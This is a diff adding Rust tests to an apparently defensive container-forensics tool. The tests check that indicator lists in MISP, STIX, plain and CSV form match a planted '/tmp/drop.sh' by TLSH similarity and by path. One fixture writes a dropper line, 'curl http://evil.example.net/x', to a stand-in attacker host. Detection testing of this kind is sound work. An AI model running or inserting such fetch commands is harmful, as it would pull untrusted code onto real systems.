@@ -12,6 +12,7 @@ use cryoscope::analysis::{Scan, Selection};
 use cryoscope::formats::hunt::{self, Hunted};
 use serde_json::{Value, json};
 
+use crate::archives::Members;
 use crate::command::{Ran, cryoscope, run};
 use crate::fixtures;
 
@@ -501,4 +502,86 @@ fn events_for_misp_have_what_an_import_needs() {
     let tree = fixtures::archive_of("tree").display().to_string();
     let two = run(["iocs", &tick, &tree, "--format", "misp"]);
     assert_eq!(two.json()["response"].as_array().unwrap().len(), 2);
+}
+
+/// The small container with a changed file.
+fn with_file(folder: &Path, name: &str, contents: &[u8]) -> String {
+    let mut members = Members::of(&fixtures::path("forms-reference/podman-runc.tar"));
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut header = tar::Header::new_gnu();
+    header.set_size(contents.len() as u64);
+    header.set_mode(0o755);
+    tar.append_data(&mut header, name, contents).unwrap();
+    members.set("rootfs-diff.tar", tar.into_inner().unwrap());
+    let path = folder.join("made.tar");
+    fs::write(&path, members.tar()).unwrap();
+    path.display().to_string()
+}
+
+/// A script of which variants have a few lines more.
+fn script(lines: u32) -> String {
+    let line = |n: u32| format!("step {n} {}\n", n.wrapping_mul(2_654_435_761) % 977);
+    (0..lines).map(line).collect()
+}
+
+#[test]
+fn similar_files_are_found_by_tlsh() {
+    let home = tempfile::tempdir().unwrap();
+    let made = with_file(home.path(), "tmp/drop.sh", script(90).as_bytes());
+    let hash = |text: &str| {
+        let hash = tlsh2::TlshDefaultBuilder::build_from(text.as_bytes()).unwrap().hash();
+        String::from_utf8(hash.to_vec()).unwrap()
+    };
+    let (same, variant, other) = (hash(&script(90)), hash(&script(91)), hash(&script(900).replace("step", "XYZ: ")));
+    let event = json!({"Event": {"info": "x", "Attribute": [
+        {"type": "tlsh", "value": same, "to_ids": true, "uuid": "123e4567-e89b-12d3-a456-426614174000"},
+        {"type": "filename|tlsh", "value": format!("other.sh|{same}"), "to_ids": true, "uuid": "123e4567-e89b-12d3-a456-426614174001"},
+    ]}});
+    let stix = json!({"type": "bundle", "id": "bundle--123e4567-e89b-12d3-a456-426614174000", "objects": [{
+        "type": "indicator", "spec_version": "2.1", "id": "indicator--123e4567-e89b-12d3-a456-426614174000",
+        "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "valid_from": "2026-01-01T00:00:00Z",
+        "pattern_type": "stix", "pattern": format!("[file:hashes.TLSH = '{variant}']"),
+    }]});
+    let lists = [
+        ("plain.txt", format!("tlsh:{}\n{other}\n", variant[2..].to_ascii_lowercase())),
+        ("misp.json", event.to_string()),
+        ("stix.json", stix.to_string()),
+        ("t.csv", format!("tlsh,comment\n{same},the dropper\n")),
+    ];
+    let mut arguments = vec!["table", "ioc_matches", &made, "--format", "ndjson"];
+    for (name, text) in &lists {
+        fs::write(home.path().join(name), text).unwrap();
+        arguments.extend(["--ioc", name]);
+    }
+    let out = run_in(home.path(), &arguments).ok();
+    let rows: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let mut found: Vec<(&str, bool)> = rows
+        .iter()
+        .map(|row| {
+            assert_eq!((row["kind"].as_str(), row["how"].as_str()), (Some("tlsh"), Some("contact")), "{row}");
+            (row["list"].as_str().unwrap(), row["context"].as_str().unwrap().ends_with("distance 0"))
+        })
+        .collect();
+    found.sort_unstable();
+    assert_eq!(found, [("misp.json", true), ("plain.txt", false), ("stix.json", false), ("t.csv", true)], "{out}");
+    let out = run_in(home.path(), &["scan", &made, "--rules", "IOC", "--ioc", "stix.json"]).out;
+    assert!(out.contains("is similar to a file with (distance ") && out.contains("/tmp/drop.sh"), "{out}");
+}
+
+#[test]
+fn query_and_inspect_compare_with_lists_too() {
+    let home = tempfile::tempdir().unwrap();
+    let made = with_file(home.path(), "tmp/drop.sh", b"curl http://evil.example.net/x\n");
+    fs::write(home.path().join("list.txt"), "/tmp/drop.sh\n").unwrap();
+    let query = "SELECT kind, how, path FROM ioc_matches";
+    let out = run_in(home.path(), &["query", &made, query, "--ioc", "list.txt", "--format", "csv"]).ok();
+    assert!(out.contains("path,contact,/tmp/drop.sh"), "{out}");
+    let none = run_in(home.path(), &["query", &made, query]);
+    assert!(none.out.is_empty() || !none.out.contains("drop.sh"), "{none:?}");
+    let out = run_in(home.path(), &["inspect", &made, "--ioc", "list.txt"]).ok();
+    assert!(out.contains("--ioc list.txt"), "{out}");
+    let plain = run_in(home.path(), &["inspect", &made]).ok();
+    assert!(!plain.contains("--ioc"), "{plain}");
+    let bad = run_in(home.path(), &["query", &made, query, "--ioc", "nowhere.txt"]);
+    assert!(bad.code == Some(2) && bad.err.contains("nowhere.txt"), "{bad:?}");
 }
